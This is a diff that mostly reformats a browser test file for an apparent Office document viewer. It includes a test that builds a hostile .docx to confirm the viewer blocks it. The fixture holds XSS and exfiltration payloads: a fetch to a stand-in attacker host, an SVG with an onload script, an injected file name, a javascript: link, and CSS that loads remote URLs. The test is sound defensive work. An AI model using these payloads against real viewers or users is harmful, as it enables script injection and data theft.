@@ -6,7 +6,17 @@ import { join } from "node:path";
 
 import { temporaryFolder, waitFor } from "../../serve/processes.mjs";
 import { browserTest, Session } from "./harness.mjs";
-import { archive, BINARY, png, presentationFiles, relationships, textIn, unpack, wordFiles, workbookFiles } from "./office_files.mjs";
+import {
+  archive,
+  BINARY,
+  png,
+  presentationFiles,
+  relationships,
+  textIn,
+  unpack,
+  wordFiles,
+  workbookFiles,
+} from "./office_files.mjs";
 
 async function open(t, name, files, options) {
   const session = await Session.start(t, { [name]: archive(files) }, options);
@@ -35,7 +45,9 @@ function relationshipsIn(bytes) {
   const tags = new TextDecoder().decode(bytes).match(/<Relationship\s[^>]*>/g) ?? [];
   const attribute = (tag, name) => new RegExp(`\\b${name}="([^"]*)"`).exec(tag)?.[1] ?? "";
   const isExternal = (tag) => attribute(tag, "TargetMode") === "External";
-  return tags.map((tag) => [...["Id", "Type", "Target"].map((name) => attribute(tag, name)), isExternal(tag)].join(" ")).sort();
+  return tags
+    .map((tag) => [...["Id", "Type", "Target"].map((name) => attribute(tag, name)), isExternal(tag)].join(" "))
+    .sort();
 }
 
 // All but what `changed` names: the same parts, bytes and relationships.
@@ -52,9 +64,27 @@ function assertSameBut(changed, before, after) {
 }
 
 for (const [name, files, changed, expected] of [
-  ["report.docm", wordFiles(), ["word/document.xml", "word/header1.xml"], ["word/document.xml", /The Budget<\/w:t><\/w:r><w:r><w:rPr><w:b\/><\/w:rPr><w:t xml:space="preserve"><\/w:t><\/w:r><w:r><w:t xml:space="preserve"> of 2026</]],
-  ["book.xlsx", workbookFiles(), ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"], ["xl/sharedStrings.xml", /<r><t>Budget<\/t><\/r><r><rPr><b\/><\/rPr><t xml:space="preserve"> <\/t><\/r>/]],
-  ["talk.pptx", presentationFiles(), ["ppt/slides/slide1.xml"], ["ppt/slides/slide1.xml", /<a:t>Budget<\/a:t><\/a:r><a:r><a:rPr b="1"\/><a:t><\/a:t>/]],
+  [
+    "report.docm",
+    wordFiles(),
+    ["word/document.xml", "word/header1.xml"],
+    [
+      "word/document.xml",
+      /The Budget<\/w:t><\/w:r><w:r><w:rPr><w:b\/><\/w:rPr><w:t xml:space="preserve"><\/w:t><\/w:r><w:r><w:t xml:space="preserve"> of 2026</,
+    ],
+  ],
+  [
+    "book.xlsx",
+    workbookFiles(),
+    ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"],
+    ["xl/sharedStrings.xml", /<r><t>Budget<\/t><\/r><r><rPr><b\/><\/rPr><t xml:space="preserve"> <\/t><\/r>/],
+  ],
+  [
+    "talk.pptx",
+    presentationFiles(),
+    ["ppt/slides/slide1.xml"],
+    ["ppt/slides/slide1.xml", /<a:t>Budget<\/a:t><\/a:r><a:r><a:rPr b="1"\/><a:t><\/a:t>/],
+  ],
 ]) {
   browserTest(`text is found and replaced across the runs of ${name}, and all else is saved as it was`, async (t) => {
     const session = await open(t, name, files);
@@ -124,7 +154,10 @@ browserTest("an image is shown, exported, and replaced by one that is dropped or
   await openPart(page, "image1.png");
   const image = page.getByRole("img", { name: "/word/media/image1.png" });
   assert.equal(await image.evaluate(async (one) => (await one.decode(), one.naturalWidth)), 20);
-  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export" }).click()]);
+  const [download] = await Promise.all([
+    page.waitForEvent("download"),
+    page.getByRole("button", { name: "Export" }).click(),
+  ]);
   assert.equal(download.suggestedFilename(), "image1.png");
 
   const other = png(30, 10, [0, 200, 0]);
@@ -132,11 +165,14 @@ browserTest("an image is shown, exported, and replaced by one that is dropped or
   writeFileSync(file, other);
   await page.getByLabel("Replace image …").setInputFiles(file);
   await page.waitForFunction(() => document.querySelector(".package-image img")?.naturalWidth === 30);
-  const data = await page.evaluateHandle((bytes) => {
-    const transfer = new DataTransfer();
-    transfer.items.add(new File([Uint8Array.from(bytes)], "not an image.png"));
-    return transfer;
-  }, [1, 2, 3]);
+  const data = await page.evaluateHandle(
+    (bytes) => {
+      const transfer = new DataTransfer();
+      transfer.items.add(new File([Uint8Array.from(bytes)], "not an image.png"));
+      return transfer;
+    },
+    [1, 2, 3],
+  );
   await page.dispatchEvent(".package-image", "drop", { dataTransfer: data });
   await page.getByText("cannot take the place").waitFor();
 
@@ -188,7 +224,8 @@ browserTest("a hostile document does nothing", async (t) => {
   const attack = "fetch('http://attacker.invalid/'); globalThis.attacked = parent.attacked = true";
   const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="${attack}"><script>${attack}</script><image href="http://attacker.invalid/x.png" xlink:href="http://attacker.invalid/y.png" width="9" height="9"/></svg>`;
   const name = "%3Cimg%20src=x%20onerror=attacked=1%3E.xml";
-  const blip = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt;background:url(http://attacker.invalid/s)" onclick="attacked=1"><v:imagedata r:id="rId7"/></v:shape></w:pict></w:r></w:p>';
+  const blip =
+    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt;background:url(http://attacker.invalid/s)" onclick="attacked=1"><v:imagedata r:id="rId7"/></v:shape></w:pict></w:r></w:p>';
   const body =
     `<w:p><w:hyperlink r:id="rId6"><w:r><w:t>&lt;script&gt;attacked=1&lt;/script&gt; press me</w:t></w:r></w:hyperlink></w:p>${blip}` +
     '<w:altChunk r:id="rId8"/><w:p><w:r><w:rPr><w:rFonts w:ascii="x;} @import url(http://attacker.invalid/f); a{"/><w:color w:val="red;background:url(http://attacker.invalid/c)"/></w:rPr><w:t>styled</w:t></w:r></w:p>';
@@ -197,7 +234,10 @@ browserTest("a hostile document does nothing", async (t) => {
     "word/media/evil.svg": svg,
     "word/evil.html": `<script>${attack}</script><img src="http://attacker.invalid/z.png">`,
   });
-  files["[Content_Types].xml"] = files["[Content_Types].xml"].replace("<Default ", '<Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="html" ContentType="text/html"/><Default ');
+  files["[Content_Types].xml"] = files["[Content_Types].xml"].replace(
+    "<Default ",
+    '<Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="html" ContentType="text/html"/><Default ',
+  );
   files["word/_rels/document.xml.rels"] = relationships(
     ["rId1", "image", "media/evil.svg"],
     ["rId2", "hyperlink", "javascript:attacked=1", true],
@@ -206,7 +246,10 @@ browserTest("a hostile document does nothing", async (t) => {
     ["rId8", "aFChunk", "evil.html"],
   );
   // The policy refuses what the preview's styles would load, and says so. That it was refused is what counts.
-  const session = await open(t, "evil.docx", files, { expectedProblems: [/Content Security Policy/i], viewport: { width: 1300, height: 800 } });
+  const session = await open(t, "evil.docx", files, {
+    expectedProblems: [/Content Security Policy/i],
+    viewport: { width: 1300, height: 800 },
+  });
   const { page } = session;
   const preview = page.frameLocator("iframe[title=Preview]");
   await preview.getByText("press me").click();
